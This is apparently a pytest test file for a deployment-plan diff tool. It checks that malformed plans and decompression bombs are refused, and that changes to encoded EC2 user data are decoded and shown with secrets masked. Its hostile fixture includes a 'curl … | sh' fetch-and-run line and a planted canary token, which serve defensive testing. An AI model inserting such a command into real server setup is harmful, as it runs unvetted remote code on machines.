"""`llmdeploy diff` on what is not a plan (one line, exit 2), and on user data changes (decoded)."""

from __future__ import annotations

import base64
import gzip
import json
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from pathlib import Path
from typing import Any

import pytest

from llmdeploy.core.userdata_reading import readable_user_data
from tests.conftest import CANARY_TOKEN
from tests.hostile.support import assert_no_canary, assert_refused, run_cli

URN = "urn:pulumi:prod::llmdeploy::aws:ec2/launchTemplate:LaunchTemplate::vllm-lt"
SCRIPT = (
    "#!/bin/bash\nset -euo pipefail\n"
    "exec docker run --runtime nvidia --gpus all --ipc=host -p 8000:8000 vllm/vllm-openai:v0.30.0\n"
)
HOSTILE_SCRIPT = (
    "#!/bin/bash\nset -euo pipefail\ncurl -fsSL https://example.invalid/install | sh\n"
    f"export HF_TOKEN={CANARY_TOKEN}\n"
    "exec docker run --runtime nvidia --gpus all -p 8000:8000 vllm/vllm-openai:v0.30.0\n"
)


def plan(user_data: str | None = None, **resource: Any) -> dict[str, Any]:
    item = {"urn": URN, "type": "aws:ec2/launchTemplate:LaunchTemplate", "name": "vllm-lt", "parent": None}
    item["inputs"] = {"userData": user_data} if user_data is not None else {}
    item.update(resource)
    return {"stack": "prod", "project": "llmdeploy", "resources": [item], "outputs": {}}


def write(path: Path, content: str | bytes) -> str:
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content)
    return str(path)


HOSTILE_PLANS = [
    (
        "parent a list",
        json.dumps(plan(parent=["x"])),
        "resources[0].parent: found list; accepted: the parent's URN",
    ),
    ("parent an object", json.dumps(plan(parent={"a": 1})), "resources[0].parent: found dict"),
    (
        "resource a string",
        json.dumps({**plan(), "resources": ["x"]}),
        'resources[0]: found "x"; accepted: an object',
    ),
    ("no stack", json.dumps({"resources": [], "outputs": {}}), "stack: found null; accepted: the stack name"),
    ("a list", "[1, 2]", "(document): found list; accepted: a JSON object"),
    ("deep nesting", "[" * 100_000 + "]" * 100_000, "nesting"),
    (
        "nesting past the bound",
        json.dumps(plan(inputs={"a": json.loads("[" * 80 + "]" * 80)})),
        "deeper than 64",
    ),
    (
        "5000-digit integer",
        '{"stack": "prod", "resources": [], "outputs": {"n": ' + "9" * 5000 + "}}",
        "not usable JSON",
    ),
    ("binary", bytes(range(256)), "found a byte that is not UTF-8 text"),
    ("not JSON", "{stack: prod", "not JSON (Expecting property name"),
]


@pytest.mark.parametrize(
    ("content", "fragment"), [c[1:] for c in HOSTILE_PLANS], ids=[c[0] for c in HOSTILE_PLANS]
)
def test_what_is_not_a_plan_is_one_line(tmp_path: Path, content: str | bytes, fragment: str) -> None:
    base = write(tmp_path / "base.json", json.dumps(plan()))
    head = write(tmp_path / "head.json", content)
    assert_refused(run_cli("diff", base, head), 2, fragment)


def test_an_endless_file_is_refused_within_its_bound(tmp_path: Path) -> None:
    base = write(tmp_path / "base.json", json.dumps(plan()))
    result = run_cli("diff", base, "/dev/zero", timeout=60)
    assert_refused(result, 2, "/dev/zero: the plan: found more than 32 MiB")


def mime(script: str) -> str:
    document = MIMEMultipart()
    document.attach(MIMEText("#cloud-config\npackages: [jq]\n", "cloud-config"))
    document.attach(MIMEText(script, "x-shellscript"))
    document.set_boundary("BOUNDARY")
    return document.as_string()


ENCODINGS = {
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "base64 + gzip": lambda text: base64.b64encode(gzip.compress(text.encode(), mtime=0)).decode(),
    "base64 + MIME multipart": lambda text: base64.b64encode(mime(text).encode()).decode(),
}


@pytest.mark.parametrize("encoding", list(ENCODINGS))
@pytest.mark.parametrize("fmt", ["text", "markdown", "json"])
def test_user_data_change_reads_as_a_line_diff(tmp_path: Path, encoding: str, fmt: str) -> None:
    encode = ENCODINGS[encoding]
    base = write(tmp_path / "base.json", json.dumps(plan(encode(SCRIPT))))
    head = write(tmp_path / "head.json", json.dumps(plan(encode(HOSTILE_SCRIPT))))
    result = run_cli("diff", base, head, "--format", fmt)
    assert result.code == 0, result.stderr
    assert_no_canary(result)
    if fmt == "json":
        change = json.loads(result.stdout)["resources"][0]["changes"][0]
        lines = change["diff"]
        assert change["note"] == f"user data decoded from {encoding}"
    else:
        lines = result.stdout.splitlines()
        assert f"user data decoded from {encoding}" in result.stdout
    stripped = [line.strip() for line in lines]
    assert "+curl -fsSL https://example.invalid/install | sh" in stripped
    assert any(line.startswith("-exec docker run") and "--ipc=host" in line for line in stripped), lines
    assert any(line.startswith("+exec docker run") and "--ipc=host" not in line for line in stripped), lines
    assert "+export HF_TOKEN=[secret]" in stripped
    # A credential that arrives inside encoded user data is warned about, never shown.
    assert "looks like a credential in plaintext in the head" in result.stdout


def test_mime_parts_are_labelled() -> None:
    readable = readable_user_data(ENCODINGS["base64 + MIME multipart"](SCRIPT))
    assert readable is not None
    assert readable.layers == ("base64", "MIME multipart")
    assert readable.text.splitlines()[:3] == [
        "--- part 1: text/cloud-config ---",
        "#cloud-config",
        "packages: [jq]",
    ]
    assert "--- part 2: text/x-shellscript ---" in readable.text.splitlines()


def test_a_gzip_bomb_in_user_data_is_not_expanded(tmp_path: Path) -> None:
    bomb = base64.b64encode(gzip.compress(b"\n" * (64 * 1024 * 1024), mtime=0)).decode()
    base = write(tmp_path / "base.json", json.dumps(plan(bomb)))
    head = write(tmp_path / "head.json", json.dumps(plan(bomb[:-8] + "AAAAAAA=")))
    result = run_cli("diff", base, head, timeout=60)
    assert result.code == 0, result.stderr
    assert len(result.stdout) < 10_000
